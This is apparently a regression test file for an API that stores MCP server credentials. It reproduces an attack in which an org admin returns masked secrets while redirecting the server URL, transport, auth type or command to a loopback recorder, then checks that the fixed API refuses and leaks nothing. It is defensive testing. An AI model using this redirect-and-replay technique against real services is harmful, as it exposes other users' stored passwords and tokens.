import { randomBytes } from 'node:crypto';
import { createKey, createOrg } from '../../support/factories';
import { HeaderRecorder, startHeaderRecorder } from '../../support/header-recorder';
import { RunningMcpServer, startMcpServer, testTls } from '../../support/mcp-servers';
import { startTestApp, TestApp } from '../../support/test-app';

const RESEND = 'send the secret again when the destination changes';
const PASSWORD = `pw-${randomBytes(12).toString('hex')}`;
const TOKEN = `ghp_${randomBytes(16).toString('hex')}`;
const ENV_SECRET = `env-${randomBytes(12).toString('hex')}`;
const BASIC = `Basic ${Buffer.from(`svc:${PASSWORD}`).toString('base64')}`;

/** The request fields of a GET response, as a client sends them back on PUT. */
function asRequest(server: Record<string, unknown>): Record<string, unknown> {
  const fields = ['server_id', 'server_name', 'alias', 'transport', 'auth_type', 'url'];
  const body = Object.fromEntries(fields.map((field) => [field, server[field]]));
  return {
    ...body,
    command: server.command,
    args: server.args,
    env: server.env,
    credentials: server.credentials,
  };
}

/**
 * Issue 11 item 2, as a hostile org_admin: a secret someone else stored is masked in every
 * response, so the attacker sends the mask back with the destination pointed at a loopback server
 * of its own that records every header. Before the fix the PUT/PATCH was accepted and the next
 * probe or connection test handed the recorder the password/token, with no credentials.read audit.
 */
describe('attack: moving a masked secret to a server the attacker controls', () => {
  const tls = testTls();
  let t: TestApp;
  let legit: RunningMcpServer;
  let legitTls: RunningMcpServer;
  let recorder: HeaderRecorder;
  let recorderTls: HeaderRecorder;
  let orgId: string;
  let orgAdmin: string;

  beforeAll(async () => {
    t = await startTestApp({ MCP_CA_FILE: tls.caFile, HEALTH_CHECK_TIMEOUT_MS: '5000' });
    legit = await startMcpServer({
      transport: 'streamable_http',
      requireHeader: { name: 'authorization', value: BASIC },
    });
    legitTls = await startMcpServer({
      transport: 'streamable_http',
      tls: { key: tls.key, cert: tls.cert },
      requireBearer: TOKEN,
    });
    recorder = await startHeaderRecorder();
    recorderTls = await startHeaderRecorder({ key: tls.key, cert: tls.cert });
    orgId = (await createOrg(t)).organization_id;
    orgAdmin = (await createKey(t, { organizationId: orgId, role: 'org_admin' })).key;
  });
  afterAll(async () => {
    await t.close();
    await Promise.all([legit.close(), legitTls.close(), recorder.close(), recorderTls.close()]);
  });

  afterEach(() => {
    const seen = [...recorder.secretsSeen(), ...recorderTls.secretsSeen()].join('\n');
    expect(seen).not.toContain(PASSWORD);
    expect(seen).not.toContain(Buffer.from(`svc:${PASSWORD}`).toString('base64'));
    expect(seen).not.toContain(TOKEN);
  });

  /** A server whose Basic password the platform admin stored; the org_admin only sees masks. */
  async function serverWithStoredPassword(): Promise<Record<string, unknown>> {
    const suffix = randomBytes(4).toString('hex');
    const created = await t.request('POST', '/v1/mcp/server', {
      body: {
        organization_id: orgId,
        server_id: `basic-${suffix}`,
        server_name: `Basic ${suffix}`,
        transport: 'streamable_http',
        url: legit.url,
        auth_type: 'basic',
        credentials: { username: 'svc', password: PASSWORD },
      },
    });
    expect(created.status).toBe(201);
    const seen = await t.request('GET', `/v1/mcp/server/${created.body.server_id}`, {
      key: orgAdmin,
    });
    expect(seen.body.credentials).toEqual({ type: 'basic', username: '****', password: '****' });
    return seen.body;
  }

  async function probe(serverId: unknown) {
    return t.request('POST', `/v1/mcp/server/${serverId}/health`, { key: orgAdmin });
  }

  it.each([
    ['to its own host and port', () => ({ url: `${recorder.url}/mcp` })],
    ['to another scheme', () => ({ url: legit.url.replace('http://', 'https://') })],
    ['to another transport', () => ({ transport: 'sse' })],
    [
      'to another auth_type',
      () => ({ auth_type: 'authorization', credentials: { value: '****' } }),
    ],
  ])('refuses a masked password moved %s (400 naming the field)', async (_what, change) => {
    const server = await serverWithStoredPassword();
    const moved: Record<string, unknown> = { ...asRequest(server), ...change() };
    const res = await t.request('PUT', '/v1/mcp/server', { key: orgAdmin, body: moved });
    // Probed before anything is asserted: whatever the PUT did, the recorder must get nothing.
    const probed = await probe(server.server_id);
    expect(recorder.received).toHaveLength(0);
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('VALIDATION_ERROR');
    const fields = moved.credentials as Record<string, string>;
    expect(res.body.error.details.fields).toEqual(
      Object.keys(fields)
        .filter((key) => fields[key] === '****')
        .map((key) => ({ field: `credentials.${key}`, message: RESEND })),
    );
    // The stored secret still serves the server it was given for, and only that one.
    expect(probed.body).toMatchObject({ status: 'healthy' });
    const audit = await t.dataSource.query(
      "SELECT action FROM audit_events WHERE resource_id = ? AND action = 'mcp_server.update'",
      [server.server_id],
    );
    expect(audit).toHaveLength(0);
  });

  it('keeps masks on the same destination (another path, description) and takes a new secret anywhere', async () => {
    const server = await serverWithStoredPassword();
    const samePlace = await t.request('PUT', '/v1/mcp/server', {
      key: orgAdmin,
      body: { ...asRequest(server), url: `${legit.url}?x=1`, description: 'moved along the path' },
    });
    expect(samePlace.status).toBe(202);
    expect((await probe(server.server_id)).body).toMatchObject({ status: 'healthy' });

    const ownSecret = `attacker-${randomBytes(6).toString('hex')}`;
    const elsewhere = await t.request('PUT', '/v1/mcp/server', {
      key: orgAdmin,
      body: {
        ...asRequest(server),
        url: `${recorder.url}/mcp`,
        credentials: { username: 'svc', password: ownSecret },
      },
    });
    expect(elsewhere.status).toBe(202);
    await probe(server.server_id);
    expect(recorder.secretsSeen()).toEqual(
      expect.arrayContaining([`Basic ${Buffer.from(`svc:${ownSecret}`).toString('base64')}`]),
    );
    recorder.received.length = 0;
  });

  it('refuses masked env values following a stdio server to another command or transport', async () => {
    const suffix = randomBytes(4).toString('hex');
    const created = await t.request('POST', '/v1/mcp/server', {
      body: {
        organization_id: orgId,
        server_id: `envs-${suffix}`,
        server_name: `Envs ${suffix}`,
        transport: 'stdio',
        command: 'node',
        args: ['server.js'],
        env: { API_TOKEN: ENV_SECRET, REGION: 'eu' },
      },
    });
    expect(created.status).toBe(201);
    const body = { ...asRequest(created.body), organization_id: orgId };
    for (const change of [
      { command: 'npx' },
      { transport: 'sse', url: `${recorder.url}/sse`, command: null },
    ]) {
      const res = await t.request('PUT', '/v1/mcp/server', { body: { ...body, ...change } });
      expect(res.status).toBe(400);
      expect(res.body.error.details.fields).toEqual([
        { field: 'env.API_TOKEN', message: RESEND },
        { field: 'env.REGION', message: RESEND },
      ]);
    }
    expect(
      (await t.request('PUT', '/v1/mcp/server', { body: { ...body, args: ['other.js'] } })).status,
    ).toBe(202);
  });

  describe('custom configurations', () => {
    async function configurationWithStoredToken() {
      const member = await createKey(t, { organizationId: orgId, role: 'member' });
      const res = await t.request('POST', '/v1/mcp-configurations', {
        key: member.key,
        body: {
          name: `GitHub ${randomBytes(4).toString('hex')}`,
          organization_id: orgId,
          server_url: legitTls.url,
          transport_type: 'streamable_http',
          auth_type: 'bearer_token',
          credentials: { token: TOKEN },
        },
      });
      expect(res.status).toBe(201);
      return res.body.id as string;
    }

    it.each([['PATCH'], ['PUT']])(
      'refuses a %s of server_url to the attacker origin that keeps the stored token',
      async (method) => {
        const id = await configurationWithStoredToken();
        const path = `/v1/mcp-configurations/${id}`;
        const res = await t.request(method, path, {
          key: orgAdmin,
          body: { server_url: `${recorderTls.url}/mcp` },
        });
        const tested = await t.request('POST', `${path}/test`, { key: orgAdmin });
        expect(recorderTls.received).toHaveLength(0);
        expect(res.status).toBe(400);
        expect(res.body.error.details.fields).toEqual([{ field: 'credentials', message: RESEND }]);
        expect(tested.body.connectionStatus).toBe('connected');
        const read = await t.request('GET', path, { key: orgAdmin });
        expect(read.body.server_url).toBe(legitTls.url);
      },
    );

    it('lets a configuration move along its own origin, or elsewhere with credentials sent again', async () => {
      const id = await configurationWithStoredToken();
      const path = `/v1/mcp-configurations/${id}`;
      const along = await t.request('PATCH', path, {
        key: orgAdmin,
        body: { server_url: `${legitTls.url}?v=2` },
      });
      expect(along.status).toBe(200);
      const fresh = `own-${randomBytes(6).toString('hex')}`;
      const moved = await t.request('PATCH', path, {
        key: orgAdmin,
        body: { server_url: `${recorderTls.url}/mcp`, credentials: { token: fresh } },
      });
      expect(moved.status).toBe(200);
      await t.request('POST', `${path}/test`, { key: orgAdmin });
      expect(new Set(recorderTls.secretsSeen())).toEqual(new Set([`Bearer ${fresh}`]));
      recorderTls.received.length = 0;
    });
  });
});
